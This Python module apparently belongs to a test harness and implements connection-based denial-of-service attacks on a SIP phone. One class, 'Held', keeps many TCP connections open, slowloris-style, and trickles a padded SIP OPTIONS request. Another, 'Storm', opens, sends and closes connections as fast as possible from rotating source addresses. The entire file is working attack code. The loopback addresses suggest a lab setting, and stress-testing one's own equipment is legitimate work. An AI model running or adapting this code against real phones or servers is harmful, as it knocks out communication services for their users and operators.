"""Attacks by connections, each in a thread of its own. `result()` counts like flood.cpp: "sent" are connections
that were opened."""
import select
import socket
import threading
import time

REQUEST = (b"OPTIONS sip:7001@phone SIP/2.0\r\nVia: SIP/2.0/TCP 127.66.0.1;branch=z9hG4bKslow\r\n"
           b"From: <sip:a@127.66.0.1>;tag=1\r\nTo: <sip:7001@phone>\r\nCall-ID: slow\r\nCSeq: 1 OPTIONS\r\n"
           b"Subject: " + b"x" * 1000)


class Nothing:
    def __init__(self, seconds):
        self.until = time.monotonic() + seconds
        self.seconds = seconds

    def result(self):
        time.sleep(max(0, self.until - time.monotonic()))
        return {"sent": 0, "seconds": self.seconds, "answers": {}}

    def kill(self):
        pass


class Attack:
    def __init__(self, victim, source, seconds):
        self.victim, self.source, self.seconds = victim, source, seconds
        self.opened, self.failed, self.ended = 0, 0, False
        self.begin = time.monotonic()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def is_over(self):
        return self.ended or time.monotonic() - self.begin >= self.seconds

    def _connect(self):
        """From another address each time; nothing is waited for."""
        connection = socket.socket()
        connection.setblocking(False)
        try:
            connection.bind((self._address(), 0))
            connection.connect(self.victim)
        except BlockingIOError:
            pass
        except OSError:
            self.failed += 1
            connection.close()
            return None
        self.opened += 1
        return connection

    def _address(self):
        """16 addresses, one behind the other, unless the source is this host itself."""
        if self.source == "127.0.0.1":
            return self.source
        head, last = self.source.rsplit(".", 1)
        return f"{head}.{int(last) + self.opened % 16}"

    def result(self):
        self.thread.join()
        return {"sent": self.opened, "seconds": time.monotonic() - self.begin, "answers": {}}

    def kill(self):
        self.ended = True
        self.thread.join()


class Held(Attack):
    """So many connections at any time: one that the victim closes is opened again. With `per_s` bytes each
    second on each; 0: never a word."""

    def __init__(self, victim, source, seconds, count, per_s=0, first=b""):
        self.count, self.per_s, self.first = count, per_s, first
        super().__init__(victim, source, seconds)

    def _run(self):
        held = {}
        poll = select.poll()
        said_at = time.monotonic()
        while not self.is_over():
            for _ in range(min(50, self.count - len(held))):  # 1,000 at each second at least
                if connection := self._connect():
                    held[connection.fileno()] = [connection, 0]
                    poll.register(connection, select.POLLIN)
            for descriptor, _ in poll.poll(50):
                self._read(held, poll, descriptor)
            if self.per_s and time.monotonic() - said_at >= 1:
                said_at = time.monotonic()
                for entry in held.values():
                    self._say(entry)
        for connection, _ in held.values():
            connection.close()

    @staticmethod
    def _read(held, poll, descriptor):
        connection = held[descriptor][0]
        try:
            if connection.recv(4096):
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        poll.unregister(descriptor)
        del held[descriptor]
        connection.close()

    def _say(self, entry):
        connection, at = entry
        try:
            entry[1] += connection.send((self.first + REQUEST)[at:at + self.per_s])
        except OSError:
            pass


class Storm(Attack):
    """Connects, says something, goes; as often as it can."""

    def __init__(self, victim, source, seconds, says=REQUEST):
        self.says = says
        super().__init__(victim, source, seconds)

    def _run(self):
        going = []
        while not self.is_over():
            if connection := self._connect():
                going.append(connection)
            if len(going) < 64:
                continue
            _, ready, _ = select.select([], going, [], 0.05)
            for connection in going:
                try:
                    connection.send(self.says)
                except OSError:
                    pass
                connection.close()
            going.clear()
        for connection in going:
            connection.close()
